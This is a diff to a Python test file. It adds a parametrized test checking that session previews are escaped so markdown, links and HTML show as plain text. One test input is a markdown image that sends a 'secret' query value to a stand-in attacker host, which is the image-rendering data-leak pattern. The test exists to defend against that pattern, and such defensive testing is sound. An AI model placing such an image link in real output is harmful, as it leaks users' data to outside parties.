@@ -127,6 +127,30 @@ def test_what_waits_is_shown_with_id_time_source_sequence_and_what_it_waits_for(
     ]
 
 
+@pytest.mark.parametrize(
+    ("said", "shown"),
+    [
+        ("![x](https://evil.example/?q=secret)", "!\\[x\\]\\(https\\://evil.example/?q=secret\\)"),
+        ("[sign in](//evil.example)", "\\[sign in\\]\\(//evil.example\\)"),
+        ("see https://evil.example", "see https\\://evil.example"),
+        ("WWW.evil.example", "WWW\\.evil.example"),
+        ("<img src=x>", "\\<img src=x\\>"),
+        ("a@evil.example", "a\\@evil.example"),
+        ("**bold** _it_ `code` ~~no~~ # x", "\\*\\*bold\\*\\* \\_it\\_ \\`code\\` \\~\\~no\\~\\~ \\# x"),
+        ("&lt;b&gt; back\\slash", "\\&lt;b\\&gt; back\\\\slash"),
+        ("a\r\n| b |", "a \\| b \\|"),
+    ],
+)
+def test_a_preview_is_text_and_no_markdown(said: str, shown: str) -> None:
+    state = session()
+    send(state, "e1", content=said)
+    running(state)
+    assert state.turn is not None
+    state.turn.preview = said
+    assert shown in details(state, NOW)
+    assert f"— {shown}" in details(state, NOW)
+
+
 def test_a_held_event_that_was_cancelled_is_not_shown() -> None:
     state = session(gap_timeout=60)
     for number in (7, 8):
